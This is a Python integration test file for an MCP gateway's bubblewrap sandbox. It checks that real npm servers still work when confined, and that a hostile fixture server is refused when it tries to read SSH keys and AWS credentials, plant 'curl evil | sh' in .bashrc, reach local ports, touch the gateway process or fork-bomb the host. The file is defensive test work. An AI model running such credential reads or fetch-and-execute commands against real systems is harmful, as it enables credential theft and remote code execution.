"""Every stdio child confined (docs/guide/sandbox.md), with a real gateway run
as C{twistd -n mcpgateway --sandbox auto}:

 - the real npm servers work confined with no hand-tuning
   (server-everything, server-filesystem over its directory,
   server-memory), listed and called through the Python SDK; what the
   sandbox refuses them (a write to the directory server-filesystem may
   only read) is logged in one line naming the key that allows it;
 - a hostile server (tests/fixtures/hostile_server.py) is refused each
   thing it tries: the SSH key of its home, the gateway's state
   directory, its home's C{.bashrc} (changed only in its own, gone with
   it), a service listening on loopback and the gateway's own port, the
   gateway's process (signal, ptrace, C{/proc/PID/environ}), a symlink in
   its workspace to a file outside; its fork bomb leaves the gateway and
   another server answering, and no process of it once it is stopped.

Bubblewrap must work here (CI installs it: C{.ci/run}); the test skips,
saying why, only where it cannot run.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.integration import sandboxkit
from tests.integration.gateway import RunningGateway, errorText, npmServer, waitFor, writeConfig
from tests.support.integration.sandbox import confinedChildren

pytestmark = pytest.mark.integration

Starter = Callable[..., RunningGateway]


def test_real_npm_servers_work_confined_with_no_hand_tuning(
    home: Path, start: Starter, everything: list[str]
) -> None:
    sandboxkit.bwrapOrSkip()
    sandboxkit.fakeHome(home)
    folder = home / "files"
    folder.mkdir()
    (folder / "hello.txt").write_text("hello from the filesystem server\n")
    filesystem, memory = npmServer("SERVER_FILESYSTEM_JS"), npmServer("SERVER_MEMORY_JS")
    config = writeConfig(
        home / "servers.json",
        {
            "everything": {"command": everything[0], "args": everything[1:]},
            "fs": {"command": filesystem[0], "args": [filesystem[1], str(folder)]},
            "memory": {
                "command": memory[0],
                "args": memory[1:],
                "env": {"MEMORY_FILE_PATH": str(home / "memory.jsonl")},
            },
        },
    )
    gateway = start("--config", str(config), "--sandbox", "auto")
    assert waitFor(lambda: "sandbox: confined children run in bubblewrap" in gateway.text())
    assert "echo" in sandboxkit.toolNames(gateway.url("everything"))
    assert (
        sandboxkit.toolCall(gateway.url("everything"), "echo", {"message": "hi"})["text"]
        == "Echo: hi"
    )
    listed = sandboxkit.toolCall(gateway.url("fs"), "list_directory", {"path": str(folder)})
    assert "hello.txt" in json.dumps(listed)
    read = sandboxkit.toolCall(
        gateway.url("fs"), "read_text_file", {"path": str(folder / "hello.txt")}
    )
    assert "hello from the filesystem server" in json.dumps(read)
    assert "read_graph" in sandboxkit.toolNames(gateway.url("memory"))
    assert sandboxkit.toolCall(
        gateway.url("memory"), "read_graph"
    )  # its file is yet to be made: empty
    # The folder it was given is its own to write.
    wrote = sandboxkit.toolCall(
        gateway.url("fs"), "write_file", {"path": str(folder / "new.txt"), "content": "x"}
    )
    assert "successfully wrote" in json.dumps(wrote).lower(), wrote
    assert (folder / "new.txt").read_text() == "x"
    assert waitFor(lambda: len(confinedChildren(gateway)) >= 1)


def test_a_hostile_server_is_refused_each_thing_it_tries(
    home: Path, start: Starter, tmp_path_factory: pytest.TempPathFactory
) -> None:
    sandboxkit.bwrapOrSkip()
    sandboxkit.fakeHome(home)
    outside = tmp_path_factory.mktemp("outside")
    (outside / "secret.txt").write_text("outside secret")
    workspace = tmp_path_factory.mktemp("workspace")
    (workspace / "escape").symlink_to(outside / "secret.txt")
    (workspace / "key").symlink_to(home / ".ssh" / "id_rsa")
    (workspace / "notes.txt").write_text("the workspace's own")
    config = writeConfig(
        home / "servers.json",
        {
            "hostile": sandboxkit.hostileEntry(workspace),
            "demo": {"command": sys.executable, "args": ["-m", "mcpgateway.demo"]},
        },
    )
    listener = sandboxkit.Listener()
    try:
        gateway = start("--config", str(config), "--sandbox", "auto")
        refusals(gateway, home, workspace, listener)
    finally:
        listener.close()
    gateway.stop()
    assert waitFor(lambda: not hostileProcesses(), 10), hostileProcesses()


def hostileProcesses() -> list[int]:
    """The processes running the hostile fixture, anywhere on this machine."""
    return [
        int(pid)
        for pid in os.listdir("/proc")
        if pid.isdigit() and str(sandboxkit.HOSTILE) in " ".join(sandboxkit.commandOf(int(pid)))
    ]


def refusals(
    gateway: RunningGateway, home: Path, workspace: Path, listener: sandboxkit.Listener
) -> None:
    url = gateway.url("hostile")

    def call(name: str, **arguments: Any) -> dict[str, Any]:
        answer: dict[str, Any] = sandboxkit.toolCall(url, name, arguments)
        return answer

    me = call("whoami")
    assert me["pid"] < 10  # its own pid namespace
    assert me["home"] == []  # its own, empty: not even the names of the user's files
    assert me["tmpdir"] == "/tmp" and "mnt" not in me["root"] and "srv" not in me["root"]
    for path in (home / ".ssh" / "id_rsa", home / ".aws" / "credentials", home / ".bash_history"):
        answer = call("read", path=str(path))
        assert not answer["ok"] and sandboxkit.SECRET not in json.dumps(answer)
    state = home / "state"
    assert any(state.iterdir())
    for entry in state.iterdir():
        assert not call("read", path=str(entry))["ok"]
    # Its home is its own: a write there never reaches the user's.
    call("write", path=str(home / ".bashrc"), text="curl evil | sh\n")
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    assert not call("write", path=str(workspace / "notes.txt"))["ok"]  # read-only
    assert call("read", path=str(workspace / "notes.txt"))["text"] == "the workspace's own"
    assert not call("read", path=str(workspace / "escape"))["ok"]
    assert not call("read", path=str(workspace / "key"))["ok"]
    # The network: neither a service on loopback nor the gateway's own port.
    assert not call("connect", port=listener.port)["ok"]
    assert not call("connect", port=gateway.port)["ok"]
    # The gateway's process is out of its reach.
    pid = gateway.process.pid
    for attempt in ("kill", "ptrace", "environ"):
        assert not call(attempt, pid=pid)["ok"], attempt
    # A fork bomb: the gateway and another server keep answering.
    bomb = call("fork", limit=400, hold=20)
    assert bomb["forked"] >= 1
    assert (
        sandboxkit.toolCall(gateway.url("demo"), "echo", {"message": "still here"})["text"]
        == "still here"
    )
    assert gateway.health()["status"]
    confined = confinedChildren(gateway)
    assert any(str(workspace) in " ".join(c) for c in confined)


def test_the_sandbox_check_command_says_what_works_here(home: Path) -> None:
    sandboxkit.bwrapOrSkip()
    done = subprocess.run(
        [sys.executable, "-m", "mcpgateway.cli", "sandbox", "check"],
        capture_output=True,
        text=True,
        env={**os.environ, "HOME": str(home), "MCPGATEWAY_HOME": str(home / "state")},
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert "bubblewrap" in done.stdout and "works" in done.stdout


def test_without_sandbox_the_same_server_reads_the_key(home: Path, start: Starter) -> None:
    """The check of the checks: the fixture does reach the key when not
    confined (so the refusals above are the sandbox's)."""
    sandboxkit.fakeHome(home)
    workspace = home / "ws"
    workspace.mkdir()
    config = writeConfig(home / "servers.json", {"hostile": sandboxkit.hostileEntry(workspace)})
    gateway = start("--config", str(config), "--sandbox", "off")
    answer = sandboxkit.toolCall(
        gateway.url("hostile"), "read", {"path": str(home / ".ssh" / "id_rsa")}
    )
    assert answer["ok"] and answer["text"] == sandboxkit.SECRET
    assert shutil.which("bwrap") is None or not confinedChildren(gateway)


def test_by_default_the_same_server_is_refused_the_key(home: Path, start: Starter) -> None:
    """No C{--sandbox}: the default confines every child."""
    sandboxkit.bwrapOrSkip()
    sandboxkit.fakeHome(home)
    workspace = home / "ws"
    workspace.mkdir()
    config = writeConfig(home / "servers.json", {"hostile": sandboxkit.hostileEntry(workspace)})
    gateway = start("--config", str(config))
    answer = sandboxkit.toolCall(
        gateway.url("hostile"), "read", {"path": str(home / ".ssh" / "id_rsa")}
    )
    assert not answer["ok"], answer
    assert waitFor(lambda: len(confinedChildren(gateway)) >= 1)


def test_a_child_its_sandbox_breaks_is_reported_with_the_key_that_allows_it(
    home: Path, start: Starter
) -> None:
    sandboxkit.bwrapOrSkip()
    sandboxkit.fakeHome(home)
    reads = "import os; open(os.path.expanduser('~/.ssh/id_rsa')).read()"
    config = writeConfig(
        home / "servers.json",
        {
            "keyed": {
                "command": sys.executable,
                "args": ["-c", reads],
                "sandbox": {"filesystem": {"allowRead": ["~"]}},
            }
        },
    )
    gateway = start("--config", str(config), "--sandbox", "auto")
    with pytest.raises(BaseException) as failed:
        sandboxkit.toolNames(gateway.url("keyed"))
    told = (
        "the sandbox hides ~/.ssh/id_rsa (its deny list has ~/.ssh): naming that entry itself"
        ' lifts the mask for this server: "sandbox": {"filesystem": {"allowRead": ["~/.ssh"]}}'
    )
    assert told in errorText(failed.value)
    assert waitFor(lambda: f"server keyed: {told}" in gateway.text())
    status = gateway.health()["servers"]["keyed"]
    assert told in status["lastExit"], status
